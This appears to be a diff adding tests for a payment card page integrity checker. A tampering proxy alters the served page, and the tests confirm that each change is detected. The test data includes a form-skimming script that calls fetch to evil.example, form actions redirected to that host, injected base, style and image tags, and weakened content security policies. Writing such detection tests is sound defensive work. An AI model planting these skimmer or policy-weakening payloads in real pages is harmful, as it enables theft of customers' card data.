@@ -1,0 +1,231 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { comparePage } from '@pay/cli/card-page/compare-page';
+import { readPage } from '@pay/cli/card-page/read-page';
+import { recordPageCheck } from '@pay/core/telling/page-checks/record-check';
+import { pageInventory } from '@pay/engine/card-page/inventory/page-inventory';
+import { Agent, request } from 'undici';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { certificateFor } from '../harness/certificate.ts';
+import { runCommand } from '../harness/command.ts';
+import { eventually } from '../harness/eventually.ts';
+import { OPERATOR } from '../harness/merchant.ts';
+import { newPayment } from '../harness/new-payment.ts';
+import { startTestEngine, type TestEngine } from '../harness/test-engine.ts';
+import { type Answer, startTamperingProxy, type Tamper, type TamperingProxy } from './tampering-proxy.ts';
+
+const YEAR = new Date().getUTCFullYear();
+const CERTIFICATE = certificateFor('localhost', { from: YEAR - 1, until: YEAR + 2 });
+const SKIMMER = '<script>document.forms[0].onsubmit = () => fetch("https://evil.example")</script>';
+
+let folder: string;
+let proxy: TamperingProxy;
+let engine: TestEngine;
+let env: Record<string, string>;
+let page: string | undefined;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'pay-page-'));
+  await writeFile(join(folder, 'ca.pem'), CERTIFICATE.cert);
+  proxy = await startTamperingProxy(CERTIFICATE);
+  engine = await startTestEngine({ baseUrls: { sandbox: proxy.url, live: 'https://live.pay.example' } });
+  proxy.leadTo(engine.url);
+  env = {
+    PAY_SANDBOX_BASE_URL: proxy.url,
+    PAY_LIVE_BASE_URL: 'https://live.pay.example',
+    PAY_SECRET_KEY: engine.profile.secretKey.value,
+    DATABASE_URL: engine.database.url,
+    NODE_EXTRA_CA_CERTS: join(folder, 'ca.pem'),
+  };
+});
+afterEach(() => proxy.tamperWith((answer) => answer));
+afterAll(async () => {
+  await engine.stop();
+  await proxy.stop();
+  await rm(folder, { recursive: true });
+});
+
+/** What a check would say now, of the same page each time. */
+async function differencesNow(): Promise<readonly string[]> {
+  page ??= (await newPayment(engine)).url;
+  const dispatcher = new Agent({ connect: { ca: CERTIFICATE.cert } });
+  const found: string[] = [];
+  for (const agent of ['Chrome', 'iPhone']) {
+    const { statusCode, headers, body } = await request(page, { dispatcher, headers: { 'user-agent': agent } });
+    const told = Object.entries(headers).flatMap(([name, value]) =>
+      value === undefined ? [] : [[name, String(value)]],
+    );
+    const loaded = {
+      status: statusCode,
+      headers: new Headers(told as [string, string][]),
+      content: readPage(await body.text()),
+    };
+    found.push(...comparePage(loaded, pageInventory()).map(({ what, found: seen }) => `${what}: ${seen}`));
+  }
+  await dispatcher.close();
+  return found;
+}
+
+const check = (...args: readonly string[]) => runCommand(['card-page', 'check', ...args], env);
+
+const inBody =
+  (from: string | RegExp, to: string): Tamper =>
+  (answer) => ({ ...answer, body: answer.body.replace(from, to) });
+const inHeaders =
+  (change: (headers: Answer['headers']) => Answer['headers']): Tamper =>
+  (answer) => ({ ...answer, headers: { ...answer.headers, ...change(answer.headers) } });
+const inPolicy = (from: string | RegExp, to: string) =>
+  inHeaders(({ 'content-security-policy': policy }) => ({
+    'content-security-policy': String(policy).replace(from, to),
+  }));
+
+describe('the card page as browsers receive it', () => {
+  test('is as the inventory of its installation says, and leaves no open payment behind', async () => {
+    const { code, stdout, stderr } = await check();
+    expect([code, stderr]).toEqual([0, '']);
+    expect(stdout).toMatch(new RegExp(`^\\S+Z ${proxy.url}/payment is as the inventory says\\.\\n$`));
+    const { rows } = await engine.database.pool.query('select distinct status from sessions');
+    expect(rows).toEqual([{ status: 'cancelled' }]);
+  });
+
+  test("is still as it should be with a merchant's own colour and logo", async () => {
+    const { profileId } = engine.profile.profile;
+    await engine.database.pool.query("update profiles set accent = '#7a1fa2' where profile_id = $1", [profileId]);
+    expect(await differencesNow()).toEqual([]);
+    await engine.database.pool.query('update profiles set accent = null where profile_id = $1', [profileId]);
+  });
+
+  const TAMPERED: readonly (readonly [what: string, tamper: Tamper, difference: RegExp])[] = [
+    ['a script is added', inBody('</body>', `${SKIMMER}</body>`), /a script that is not in the inventory/],
+    ['a script is added to the head', inBody('<head>', `<head>${SKIMMER}`), /a script that is not in the inventory/],
+    [
+      'the script is changed by one byte',
+      inBody('"use strict"', '"use strict" '),
+      /a script that is not in the inventory/,
+    ],
+    ['the script is taken away', inBody(/<script>.*<\/script>/s, ''), /the script card-page\.js is missing/],
+    ['the script comes twice', inBody(/(<script>.*<\/script>)/s, '$1$1'), /a script that is not in the inventory/],
+    ['a script is loaded', inBody('</body>', '<script src="/x.js"></script></body>'), /<script src>/],
+    ['a handler is added', inBody('<form', '<form onsubmit="x()"'), /<form onsubmit>/],
+    ['the form goes elsewhere', inBody(/action="[^"]*"/, 'action="https://evil.example/"'), /<form action>/],
+    ['the form goes elsewhere without a scheme', inBody(/action="[^"]*"/, 'action="//evil.example/"'), /<form action>/],
+    ['a frame is added', inBody('</body>', '<iframe srcdoc="x"></iframe></body>'), /<iframe>/],
+    ['a base is added', inBody('<head>', '<head><base href="https://evil.example/">'), /<base>/],
+    ['a style is loaded', inBody('<head>', '<head><link rel="stylesheet" href="https://evil.example/">'), /<link>/],
+    [
+      'a style is added',
+      inBody('</head>', '<style>input{background:url(https://evil.example)}</style></head>'),
+      /a style/,
+    ],
+    ['a picture is loaded', inBody('</body>', '<img src="https://evil.example/x.gif"></body>'), /<img src>/],
+    ['a link runs something', inBody('</body>', '<a href="javascript:x()">x</a></body>'), /<a href>/],
+    [
+      'the policy is taken away',
+      inHeaders(() => ({ 'content-security-policy': undefined })),
+      /script-src .* is missing/,
+    ],
+    [
+      'the policy allows any script',
+      inPolicy(/script-src [^;]*/, "script-src * 'unsafe-inline'"),
+      /script-src .* differs/,
+    ],
+    [
+      'the policy allows one script more',
+      inPolicy("script-src '", `script-src 'sha256-${'A'.repeat(43)}=' '`),
+      /script-src/,
+    ],
+    ['the policy allows other requests', inPolicy("connect-src 'self'", 'connect-src *'), /connect-src .* differs/],
+    [
+      'the policy allows another form target',
+      inPolicy("form-action 'self'", 'form-action *'),
+      /form-action .* differs/,
+    ],
+    ['a first directive replaces the real one', inPolicy(/^/, 'script-src *; '), /script-src .* differs/],
+    ['the page can be framed', inHeaders(() => ({ 'x-frame-options': undefined })), /header x-frame-options differs/],
+    [
+      'transport security is taken away',
+      inHeaders(() => ({ 'strict-transport-security': undefined })),
+      /strict-transport-security differs/,
+    ],
+    ['the page can be cached', inHeaders(() => ({ 'cache-control': 'public' })), /header cache-control differs/],
+    ['a cookie is set', inHeaders(() => ({ 'set-cookie': 'x=y' })), /header set-cookie was added/],
+    [
+      'a script is preloaded',
+      inHeaders(() => ({ link: '<https://evil.example/x.js>; rel=preload' })),
+      /header link was added/,
+    ],
+    [
+      'only phones get another page',
+      (answer, agent) => (agent.includes('iPhone') ? inBody('</body>', `${SKIMMER}</body>`)(answer, agent) : answer),
+      /a script that is not in the inventory/,
+    ],
+  ];
+
+  test('differs, with exit code 1 and a fingerprint, if a script is added', async () => {
+    proxy.tamperWith(inBody('</body>', `${SKIMMER}</body>`));
+    const { code, stdout, stderr } = await check();
+    expect([code, stderr]).toEqual([1, 'pay: The card page differs from its inventory.\n']);
+    expect(stdout).toMatch(/a script that is not in the inventory +sha256-[A-Za-z0-9+/]{43}=/);
+    expect(stdout).not.toContain('evil');
+  });
+
+  test('differs in every way in which somebody could tamper with it', async () => {
+    expect(await differencesNow()).toEqual([]);
+    const missed: string[] = [];
+    for (const [what, tamper, difference] of TAMPERED) {
+      proxy.tamperWith(tamper);
+      if (!(await differencesNow()).some((each) => difference.test(each))) missed.push(what);
+    }
+    expect(missed).toEqual([]);
+  });
+
+  test('that cannot be loaded is told apart by the exit code', async () => {
+    const gone = await check('https://localhost:1/payment');
+    expect([gone.code, gone.stderr]).toEqual([3, expect.stringContaining('did not answer')]);
+  });
+});
+
+describe('the inventory', () => {
+  test('names reason, hash and sources of everything, and can be kept outside of the installation', async () => {
+    const { code, stdout } = await runCommand(['card-page', 'inventory', '--json'], {});
+    const kept = JSON.parse(stdout);
+    expect([code, kept]).toEqual([0, pageInventory()]);
+    for (const { reason, where, hash, sources } of kept.items) {
+      expect([reason.length > 20, where.length > 5, sources.length > 0]).toEqual([true, true, true]);
+      expect(hash).toMatch(/^sha256-[A-Za-z0-9+/]{43}=$/);
+    }
+    const file = join(folder, 'inventory.json');
+    const items = kept.items.map((item: object) => ({ ...item, hash: 'sha256-x' }));
+    await writeFile(file, JSON.stringify({ ...kept, items }));
+    const other = await check('--inventory', file);
+    expect([other.code, other.stdout]).toEqual([1, expect.stringContaining('the script card-page.js is missing')]);
+  });
+});
+
+test('a recorded difference becomes an event of the profile and an alarm, once', async () => {
+  proxy.tamperWith(inBody('</body>', `${SKIMMER}</body>`));
+  expect((await check('--record', '--json')).code).toBe(1);
+  // biome-ignore lint/suspicious/noExplicitAny: tests read answers of every shape
+  const changed = async (): Promise<any[]> =>
+    (await engine.api.get('/v1/events')).body.data.filter(({ type }: { type: string }) => type === 'card_page.changed');
+  await eventually(async () => (await changed()).length).toBe(1);
+  expect((await changed())[0].data).toEqual({
+    check_id: expect.stringMatching(/^cpc_\w{22}$/),
+    address: `${proxy.url}/payment`,
+    differences: [
+      { what: 'the page has a script that is not in the inventory', found: expect.stringMatching(/^sha256-/) },
+    ],
+  });
+  await eventually(() => engine.readLog()).toContain('the card page differs from its inventory');
+  const { profileId } = engine.profile.profile;
+  const deps = { pool: engine.database.pool, environment: 'sandbox' } as const;
+  const address = `${proxy.url}/payment`;
+  expect(await recordPageCheck(deps, OPERATOR, { profileId, address, differences: [] })).toMatchObject({ ok: true });
+  const elsewhere = { profileId: 'nobody00', address, differences: [] };
+  expect(await recordPageCheck(deps, OPERATOR, elsewhere)).toMatchObject({ ok: false });
+  const { rows } = await engine.database.pool.query(
+    'select announced_at is not null as told from card_page_checks order by checked_at',
+  );
+  expect(rows).toEqual([{ told: true }, { told: false }]);
+  expect(await changed()).toHaveLength(1);
+});
